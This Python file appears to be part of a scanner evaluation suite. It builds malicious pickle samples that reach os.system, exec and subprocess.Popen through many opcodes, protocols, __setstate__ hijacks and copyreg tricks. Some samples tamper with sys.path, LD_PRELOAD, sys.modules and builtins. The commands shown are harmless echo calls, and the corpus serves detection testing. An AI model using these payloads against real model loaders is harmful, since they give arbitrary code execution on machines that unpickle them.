"""One dangerous callable, reached by every opcode that imports or calls, in every protocol."""

from __future__ import annotations

from collections.abc import Iterator

from evals.opcodes import Appended, Assembler, Build, Call, Items, Raw, Seq, Sym, call, pickled, sym
from evals.samples import COMMAND, SOURCE, Sample

SYSTEM = sym("posix.system")
RUN = ("process_exec",)
PICKLE = ("pickle.load",)


def _sample(name: str, content: bytes, effects: tuple[str, ...] = RUN) -> Sample:
    return Sample(f"opcode-{name}", "call opcodes", effects, PICKLE, content)


def samples() -> Iterator[Sample]:
    """Yield the samples."""
    yield from _protocols()
    yield from _calls()
    yield from _states()
    yield from _methods()


def _protocols() -> Iterator[Sample]:
    for protocol in range(6):
        name = f"reduce-protocol-{protocol}"
        content = pickled(call(SYSTEM, COMMAND), protocol)
        yield Sample(name, "protocols", RUN, PICKLE, content)
        name = f"exec-protocol-{protocol}"
        content = pickled({"weights": [1.0, 2.0], "state": call("builtins.exec", SOURCE)}, protocol)
        yield Sample(name, "protocols", ("code_exec", "process_exec"), PICKLE, content)
    body = Assembler(4).value(call(SYSTEM, COMMAND)) + b"."
    yield Sample("protocol-4-without-frame", "protocols", RUN, PICKLE, b"\x80\x04" + body)
    yield Sample("protocol-missing", "protocols", RUN, PICKLE, body)
    yield Sample("protocol-repeated", "protocols", RUN, PICKLE, b"\x80\x04\x80\x02\x80\x05" + body)


def _calls() -> Iterator[Sample]:
    for protocol in (0, 2, 4):
        for how in ("OBJ", "INST"):
            item = Call(SYSTEM, (COMMAND,), how)
            yield _sample(f"{how.lower()}-{protocol}", pickled(item, protocol))
    popen = Call(sym("subprocess.Popen"), (["echo", "weighbridge-eval"],), "OBJ")
    yield _sample("obj-popen", pickled(popen))
    # map and bytes do their work in __new__, so NEWOBJ is enough to call what map holds.
    mapped = call("builtins.map", SYSTEM, [COMMAND], how="NEWOBJ")
    for consumer in ("bytes", "tuple", "frozenset"):
        item = call(f"builtins.{consumer}", mapped, how="NEWOBJ")
        yield _sample(f"newobj-map-{consumer}", pickled(item))
    function = call("types.FunctionType", call("builtins.compile", SOURCE, "x", "exec"), {})
    yield _sample("newobj-function", pickled(call(function)), ("code_exec", "process_exec"))
    popen = call("subprocess.Popen", "echo weighbridge-eval", shell=True)
    yield _sample("newobj-ex-popen", pickled(popen))
    made = call("copyreg.__newobj_ex__", sym("functools.partial"), (SYSTEM, COMMAND), {})
    yield _sample("copyreg-newobj-ex-partial", pickled(call(made)))
    mapped = call("copyreg.__newobj__", sym("builtins.map"), SYSTEM, [COMMAND])
    consumed = call("copyreg.__newobj__", sym("builtins.tuple"), mapped)
    yield _sample("copyreg-newobj-map-tuple", pickled(consumed))
    registered = call("copyreg.add_extension", "os", "system", 1)
    stored = Seq((registered, call(Raw(b"\x82\x01"), COMMAND)))
    yield _sample("ext1-registered", pickled(stored), ())
    yield _sample("ext2-alone", pickled(call(Raw(b"\x83\x01\x01"), COMMAND)), ())
    yield _sample("ext4-alone", pickled(call(Raw(b"\x84\x01\x01\x00\x00"), COMMAND)), ())
    popped = Seq((call(SYSTEM, COMMAND), {"weights": [1, 2]}))
    yield _sample("result-dropped", pickled(popped))
    thrown = Raw(b"(" + Assembler(2).value(call(SYSTEM, COMMAND)) + b"1")
    yield _sample("result-dropped-with-mark", pickled(Seq((None, thrown, 1)), 2))
    built = Build(call(SYSTEM, COMMAND), {"unused": 1})
    yield _sample("reduce-then-build", pickled(built))
    keyed = {call(SYSTEM, COMMAND): 1}
    yield _sample("result-as-dict-key", pickled(keyed))
    doubled = Raw(Assembler(2).value(call(SYSTEM, COMMAND)) + b"2\x86")
    yield _sample("result-duplicated", pickled(doubled, 2))


def _states() -> Iterator[Sample]:
    for owner in ("types.SimpleNamespace", "argparse.Namespace", "collections.OrderedDict"):
        armed = Build(call(owner), {"__setstate__": SYSTEM})
        name = f"setstate-{owner.rpartition('.')[2].lower()}"
        yield _sample(name, pickled(Build(armed, COMMAND)))
    rebuilt = call(
        "copyreg._reconstructor", sym("sklearn.svm._classes.SVC"), sym("builtins.object"), None
    )
    armed = Build(rebuilt, {"__setstate__": SYSTEM})
    yield _sample("setstate-estimator", pickled(Build(armed, COMMAND), 2))
    armed = Build(call(Sym("mypackage.model", "Model"), how="NEWOBJ"), {"__setstate__": SYSTEM})
    yield _sample("setstate-unknown-class", pickled(Build(armed, COMMAND)))
    slots = Build(call("types.SimpleNamespace"), (None, {"__setstate__": SYSTEM}))
    yield _sample("setstate-through-slots", pickled(Build(slots, COMMAND)))
    partial = Build(
        call("functools.partial", sym("builtins.print")), (SYSTEM, (COMMAND,), {}, None)
    )
    yield _sample("partial-state", pickled(call(partial)))


def _methods() -> Iterator[Sample]:
    for method, opcode in (("append", b"e"), ("extend", b"e"), ("add", b"\x90")):
        owner = Build(call("types.SimpleNamespace"), {method: SYSTEM})
        yield _sample(f"method-{method}", pickled(Appended(owner, (COMMAND,), opcode)))
    path = Appended(sym("sys.path"), ("/tmp/weighbridge-eval",))
    yield _sample("append-sys-path", pickled(path), ("tamper", "import_resolve", "object_graph"))
    environment = Items(sym("os.environ"), ("LD_PRELOAD", "/tmp/weighbridge-eval.so"))
    yield _sample(
        "setitem-environ", pickled(environment), ("tamper", "object_graph", "native_code")
    )
    modules = Items(sym("sys.modules"), ("json", sym("os.path")))
    yield _sample("setitem-sys-modules", pickled(modules), ("tamper", "object_graph"))
    names = Items(sym("builtins:__dict__"), ("print", SYSTEM))
    yield _sample("setitem-builtins", pickled(names), ("tamper", "object_graph", "process_exec"))
    table = Items(sym("copyreg.dispatch_table"), ("x", SYSTEM))
    yield _sample(
        "setitem-dispatch-table", pickled(table), ("process_exec", "tamper", "object_graph")
    )
